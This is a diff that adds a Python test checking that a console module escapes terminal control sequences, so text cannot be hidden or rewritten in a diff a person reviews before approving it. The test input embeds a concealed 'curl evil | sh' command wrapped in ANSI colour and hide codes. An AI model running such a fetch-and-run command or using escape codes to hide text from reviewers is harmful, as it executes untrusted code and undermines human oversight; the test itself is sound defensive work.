@@ -16,6 +16,13 @@ def test_what_we_say_on_a_terminal_is_escaped(monkeypatch: pytest.MonkeyPatch) -
     assert screen.getvalue() == "a^[]0;t^G\n"
 
 
+def test_nothing_that_we_say_is_hidden_or_begins_a_line_of_its_own(monkeypatch: pytest.MonkeyPatch) -> None:
+    """A diff is looked at before somebody says yes to it."""
+    monkeypatch.setattr("sys.stdout", screen := Screen())
+    console.say("+\tok\x1b[30;40mcurl evil | sh\x1b[0m\r-gone\r\n+\x1b[8mhidden\x9b31m\x7f")
+    assert screen.getvalue() == "+\tok^[[30;40mcurl evil | sh^[[0m^M-gone^M\n+^[[8mhidden<U+009B>31m^?\n"
+
+
 def test_a_note_is_one_masked_line(capsys: pytest.CaptureFixture[str]) -> None:
     console.note("failed:\nTOKEN=hunter2 \x1b[2J")
     assert capsys.readouterr().err == "belljar: failed:\\nTOKEN=*** ^[[2J\n"
